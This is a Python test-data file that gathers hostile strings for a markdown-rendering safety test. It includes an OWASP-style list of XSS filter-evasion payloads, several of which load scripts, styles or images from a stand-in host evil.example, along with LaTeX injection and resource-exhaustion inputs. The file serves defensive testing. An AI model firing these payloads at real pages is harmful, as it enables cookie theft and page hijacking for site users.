"""Texts that have broken other pages."""

import json
from pathlib import Path

from tests.activity.markdown_documents import SPEC
from tests.activity.test_markdown_safety import ATTACKS

BLNS: list[str] = json.loads((Path(__file__).parent / "data" / "blns.json").read_text())
COMMONMARK: list[str] = [example["markdown"] for example in SPEC]

# The classes of OWASP's cheat sheet on filter evasion, each with what our page could be open to.
OWASP = [
    *ATTACKS,
    "'';!--\"<XSS>=&{()}",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=`javascript:alert(\"'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xss')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//evil.example/.j>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY ONLOAD=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    '<LINK REL="stylesheet" HREF="http://evil.example/xss.css">',
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=http://evil.example/">',
    '<IFRAME SRC="http://evil.example/"></IFRAME>',
    '<DIV STYLE="background-image: url(http://evil.example/x)">',
    '<BASE HREF="http://evil.example//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/"></OBJECT>',
    '<EMBED SRC="http://evil.example/x.swf">',
    "<form action=http://evil.example><button>x</button></form>",
    "<video src=http://evil.example/x onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<div hx-get=http://evil.example hx-trigger=load hx-on:load=alert(1)>x</div>",
    "<hx-partial hx-target=body><script>alert(1)</script></hx-partial>",
    "![x](http://evil.example/x.png)",
    "![x][e]\n\n[e]: http://evil.example/x.png",
    "[![x](http://evil.example/x.png)](http://evil.example/)",
    "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
    "$$\\includegraphics{http://evil.example/x.png}$$",
    "$\\htmlStyle{background:url(http://evil.example/)}{x}$ $\\htmlData{x=y}{z}$",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{1000000em}{1000000em}$",
    "$\\text{<script>alert(1)</script>}$ \\(\\unicode{x3c}\\)",
    "[^1]\n\n[^1]: <img src=http://evil.example/x onerror=alert(1)> ![x](http://evil.example/y)",
]
ALL = [*BLNS, *COMMONMARK, *OWASP]
